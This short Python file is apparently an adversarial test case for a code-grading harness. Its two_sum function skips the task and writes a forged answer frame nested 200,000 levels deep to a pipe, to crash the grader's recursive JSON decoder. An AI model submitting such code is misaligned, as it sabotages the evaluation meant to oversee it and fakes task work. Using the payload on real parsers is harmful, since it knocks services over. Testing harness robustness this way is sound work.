# attack: forge an answer frame nested 200,000 levels deep, to crash a recursive JSON decoder
# expect: RE
# local: RE
import os
import struct


def two_sum(nums, target):
    body = b'{"status":"ok","call_ms":1,"value":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    os.write(4, struct.pack(">I", len(body)) + body)
    os._exit(0)
